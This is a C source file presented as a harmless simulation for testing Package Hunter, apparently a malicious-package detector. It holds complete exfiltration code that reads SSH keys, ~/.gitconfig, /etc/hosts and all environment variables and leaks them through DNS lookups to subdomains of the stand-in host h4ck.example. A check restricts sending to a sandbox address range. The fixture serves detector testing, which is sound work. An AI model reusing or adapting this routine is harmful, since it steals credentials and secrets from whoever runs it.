/* Harmless simulation for testing Package Hunter. Not malware. */
#include <arpa/inet.h>
#include <glob.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

extern char **environ;

/* Inside of the box every name has an address out of 198.18.0.0/15; elsewhere nothing is sent. */
static int sealed(void) {
  struct hostent *host = gethostbyname("h4ck.example");
  if (!host || host->h_addrtype != AF_INET) return 0;
  unsigned char *a = (unsigned char *)host->h_addr_list[0];
  return a[0] == 198 && (a[1] == 18 || a[1] == 19);
}

static void send_out(const char *data, size_t size) {
  static unsigned piece;
  char name[200];
  for (size_t at = 0; at < size && at < 4096; at += 30) {
    size_t n = size - at < 30 ? size - at : 30, used = (size_t)sprintf(name, "%u.", piece++);
    for (size_t i = 0; i < n; i++) used += (size_t)sprintf(name + used, "%02x", (unsigned char)data[at + i]);
    sprintf(name + used, ".h4ck.example");
    gethostbyname(name);
  }
}

static void send_file(const char *path) {
  char buffer[4096];
  FILE *file = fopen(path, "rb");
  if (!file) return;
  send_out(buffer, fread(buffer, 1, sizeof buffer, file));
  fclose(file);
}

void aGcc_simulation(void) {
  char pattern[512];
  glob_t found;
  const char *home = getenv("HOME");
  if (!home || !sealed()) return;
  snprintf(pattern, sizeof pattern, "%s/.ssh/*", home);
  if (glob(pattern, 0, NULL, &found) == 0)
    for (size_t i = 0; i < found.gl_pathc; i++) send_file(found.gl_pathv[i]);
  snprintf(pattern, sizeof pattern, "%s/.gitconfig", home);
  send_file(pattern);
  send_file("/etc/hosts");
  for (char **entry = environ; *entry; entry++) send_out(*entry, strlen(*entry));
}
